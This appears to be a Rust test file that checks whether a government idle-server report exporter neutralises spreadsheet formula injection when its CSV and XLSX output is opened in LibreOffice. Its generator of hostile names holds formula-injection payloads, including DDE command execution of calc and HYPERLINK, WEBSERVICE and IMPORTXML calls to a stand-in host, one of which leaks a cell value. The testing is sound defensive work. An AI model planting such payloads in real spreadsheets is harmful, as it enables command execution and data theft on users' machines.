//! What LibreOffice makes of a report: no text of anybody's is evaluated, and its sums are ours.

use super::day;
use jiff::{ToSpan, civil::date};
use jiyue::{
    catalogue::Catalogue,
    identity::Department,
    ids::DepartmentId,
    report::{
        idle::{self, Head, IdleReport},
        paper,
    },
    request::block::WorkloadClass,
    usage::{
        advice::Sizing,
        judging::{self, Case, Evidence, Rules, Subject},
        verdict::{Assumed, Facts, RuleSets, Verdict},
    },
};
use std::{path::Path, process::Command};

const MANY: usize = 10_000;

fn evidence() -> Evidence {
    let on = date(2026, 10, 31);
    let rules = Rules {
        set: RuleSets::embedded().expect("rules").find(RuleSets::OWN).expect("ours").clone(),
        sizing: Sizing::embedded().expect("sizing"),
        assumed: Assumed::default(),
        bounds: Catalogue::embedded().expect("a catalogue").bounds,
    };
    let case = Case {
        subject: Subject {
            id: String::new(),
            department: Department { id: DepartmentId::new(), code: "mzj".to_owned(), name: String::new() },
            name: String::new(),
            system: None,
            system_id: None,
            vcpu: Some(2),
            memory_bytes: Some(3 << 29),
            disk_bytes: Some(40 << 30),
            workload_class: WorkloadClass::UserFacing,
            state: "running".to_owned(),
            delivered_on: None,
        },
        facts: Facts::default(),
        host: None,
        intent: None,
        least_memory: 0,
        least_disk: 0,
        made_of: None,
        unread: None,
    };
    let mut history = rules.history(on);
    for ago in (0..60).rev() {
        history.add(&day(on.checked_sub(ago.days()).unwrap(), 0.4, 50.0));
    }
    let evidence = judging::judge(&rules, &case, &history);
    assert_eq!(evidence.judgement.verdict, Verdict::Idle, "{evidence:#?}");
    evidence
}

/// Names that ask to be evaluated, each another.
fn hostile(n: usize) -> String {
    let starts = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u{200b}=",
        "'=",
        "\"=",
        ";=",
        ",=",
        "{=",
        "\u{3000}=",
    ];
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
        "WEBSERVICE(\"http://x.example\")",
        "SUM(A1:A9)",
        "IMPORTXML(\"http://x.example\",\"//a\")",
        "2+5+cmd|' /C calc'!A0",
        "A1;=1+1",
        "x\",=1+1,\"",
        "x\r\n=1+1",
    ];
    format!("{}{}#{n}", starts[n % starts.len()], bodies[n / starts.len() % bodies.len()])
}

fn report(all: Vec<Evidence>) -> IdleReport {
    let head = Head { as_of: date(2026, 10, 31), district: "相城区", authority: "=区信息办", department: None };
    idle::report(head, all)
}

fn convert(folder: &Path, from: &str, filter: Option<&str>) -> String {
    let profile = folder.join("soffice");
    let mut command = Command::new("soffice");
    command.arg("--headless").arg(format!("-env:UserInstallation=file://{}", profile.display()));
    command.args(filter.map(|filter| format!("--infilter={filter}")));
    command
        .args(["--convert-to", "fods:OpenDocument Spreadsheet Flat XML", "--outdir"])
        .arg(folder)
        .arg(folder.join(from));
    let out = command.output().expect("LibreOffice is installed (make setup)");
    let made = folder.join(from).with_extension("fods");
    let said = String::from_utf8_lossy(&out.stderr);
    std::fs::read_to_string(&made).unwrap_or_else(|error| panic!("{from} was not opened: {error}: {said}"))
}

/// Every formula of a flat document, with the value that LibreOffice gives it.
fn formulas(document: &str) -> Vec<(String, f64)> {
    let attribute = |tag: &str, name: &str| {
        let from = tag.find(&format!("{name}=\""))? + name.len() + 2;
        tag[from..].split('"').next().map(str::to_owned)
    };
    let cells = document.split("<table:table-cell").skip(1).filter_map(|cell| cell.split('>').next());
    cells
        .filter_map(|tag| {
            let formula = attribute(tag, "table:formula")?;
            let value = attribute(tag, "office:value").and_then(|value| value.parse().ok()).unwrap_or(f64::NAN);
            Some((formula, value))
        })
        .collect()
}

#[test]
fn of_ten_thousand_hostile_names_none_is_evaluated_and_the_sums_are_ours() {
    let one = evidence();
    let all: Vec<Evidence> = (0..MANY)
        .map(|n| {
            let mut evidence = one.clone();
            // Few groups and many names, so that every sheet has its share.
            evidence.judgement.figures.truncate(1);
            evidence.subject.id = format!("{n:05}");
            evidence.subject.name = hostile(n);
            evidence.subject.system = Some(hostile(n % 500));
            evidence.subject.department.code = format!("d{}", n % 20);
            evidence.subject.department.name = hostile(n % 20);
            evidence
        })
        .collect();
    let report = report(all);
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("text.csv"), paper::idle_csv(&report).expect("a table")).unwrap();
    std::fs::write(folder.path().join("book.xlsx"), paper::idle_workbook(&report).expect("a workbook")).unwrap();
    std::fs::write(folder.path().join("planted.csv"), "\"a\",\"b\"\r\n=1+1,2\r\n").unwrap();

    // By commas and by semicolons, with formulas evaluated: as the worst of all settings has it.
    let with_formulas = |separator: u32| format!("CSV:{separator},34,76,1,,0,false,true,false,false,false,-1,true");
    let planted = convert(folder.path(), "planted.csv", Some(&with_formulas(44)));
    assert_eq!(formulas(&planted).len(), 1, "the oracle sees a formula where there is one: {planted}");
    for separator in [44, 59] {
        let text = convert(folder.path(), "text.csv", Some(&with_formulas(separator)));
        assert!(text.matches("<table:table-row").count() > MANY, "all rows are there");
        assert_eq!(formulas(&text), Vec::new(), "separator {separator}");
    }
    let book = convert(folder.path(), "book.xlsx", None);
    let found = formulas(&book);
    assert!(found.iter().all(|(formula, _)| formula.starts_with("of:=SUM(")), "{found:?}");
    assert!(found.iter().all(|(_, value)| value.is_finite()), "{found:?}");
    let expected = |value: f64| found.iter().filter(|(_, sum)| (sum - value).abs() < 1e-6).count();
    #[allow(clippy::cast_precision_loss, reason = "small")]
    for value in [MANY as f64, 2.0 * MANY as f64, 1.5 * MANY as f64, 40.0 * MANY as f64] {
        assert!(expected(value) >= 1, "{value} among {found:?}");
    }
}

#[test]
fn a_report_of_nothing_opens_as_well() {
    let report = report(Vec::new());
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("book.xlsx"), paper::idle_workbook(&report).expect("a workbook")).unwrap();
    assert_eq!(
        paper::idle_workbook(&report).unwrap(),
        std::fs::read(folder.path().join("book.xlsx")).unwrap(),
        "the same twice"
    );
    let found = formulas(&convert(folder.path(), "book.xlsx", None));
    assert!(!found.is_empty() && found.iter().all(|(_, value)| *value == 0.0), "{found:?}");
}

#[test]
fn what_may_be_a_formula_is_guarded() {
    for n in 0..MANY {
        let (name, guarded) = (hostile(n), paper::guarded(&hostile(n)));
        let first = name.chars().find(|c| !c.is_whitespace() && !c.is_control() && *c != '\u{200b}').unwrap();
        let asks = "=+-@＝＋－＠".contains(first);
        assert_eq!(guarded.starts_with('\''), asks || name.starts_with(['\'', '\t', '\r', '\n']), "{name:?}");
    }
    assert_eq!(paper::guarded("相城区民政局"), "相城区民政局");
    assert_eq!(paper::guarded("a;=1+1"), "a;'=1+1");
    assert_eq!(paper::guarded("2026-10-31，共 3 台, 2 台闲置"), "2026-10-31，共 3 台, 2 台闲置");
}
